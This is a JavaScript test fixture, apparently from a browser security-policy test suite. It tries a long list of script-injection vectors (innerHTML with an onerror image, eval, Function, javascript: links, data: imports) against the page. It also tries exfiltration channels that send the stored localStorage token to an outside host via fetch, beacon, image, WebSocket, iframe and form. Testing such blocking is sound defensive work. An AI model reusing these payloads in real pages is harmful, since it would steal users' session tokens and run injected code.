// Runs in the page as a script from its own origin: what a fault of ours might let in. Whatever gets through pushes its name onto `taken`.
window.taken = []
const outside = new URL(import.meta.url).searchParams.get('outside')
const leak = `${outside}/?token=${encodeURIComponent(localStorage.getItem('token'))}`
const refused = []

async function attempt(name, run) {
  try {
    await run()
  } catch {
    refused.push(name)
  }
}

function add(tag, properties) {
  const element = Object.assign(document.createElement(tag), properties)
  document.body.append(element)
  return element
}

const MARKUP = '<img src=x onerror="taken.push(\'markup\')">'

await attempt('innerHTML', () => add('p', { innerHTML: MARKUP }))
await attempt('outerHTML', () => {
  add('p', {}).outerHTML = MARKUP
})
await attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', MARKUP))
await attempt('document.write', () => document.write(MARKUP))
await attempt('srcdoc', () => add('iframe', { srcdoc: '<script>parent.taken.push("srcdoc")</script>' }))
await attempt('eval', () => window['ev' + 'al']('taken.push("eval")'))
await attempt('Function', () => new Function('taken.push("Function")')())
await attempt('script text', () => add('script', { text: 'taken.push("script text")' }))
await attempt('script src', () => add('script', { src: `${leak}&by=script` }))
await attempt('import', () => import(`${leak}&by=import`))
await attempt('data: import', () => import('data:text/javascript,taken.push("data")'))
await attempt('fetch', () => fetch(`${leak}&by=fetch`, { mode: 'no-cors' }))
await attempt('worker', () => new Worker(URL.createObjectURL(new Blob([`fetch("${leak}")`]))))

// These do not throw: nothing may come of them.
await attempt('timer', () => setTimeout('taken.push("timer")'))
await attempt('handler', () => add('button', {}).setAttribute('onclick', 'taken.push("handler")'))
await attempt('socket', () => new WebSocket(leak.replace('http', 'ws')))
await attempt('beacon', () => navigator.sendBeacon(`${leak}&by=beacon`, 'token'))
await attempt('base', () => add('base', { href: outside }))
await attempt('image', () => add('img', { src: `${leak}&by=image` }))
await attempt('style sheet', () => add('link', { rel: 'stylesheet', href: `${leak}&by=css` }))
await attempt('prefetch', () => add('link', { rel: 'prefetch', href: `${leak}&by=prefetch` }))
await attempt('frame', () => add('iframe', { src: `${leak}&by=frame` }))
await attempt('object', () => add('object', { data: `${leak}&by=object` }))
await attempt('javascript: link', () => add('a', { href: 'javascript:taken.push("link")' }).click())
for (const button of document.querySelectorAll('button[onclick]')) button.click()

// The last, because the browser counts it as a journey under way.
window.attacked = { refused, submit: () => add('form', { action: `${leak}&by=form` }).submit() }
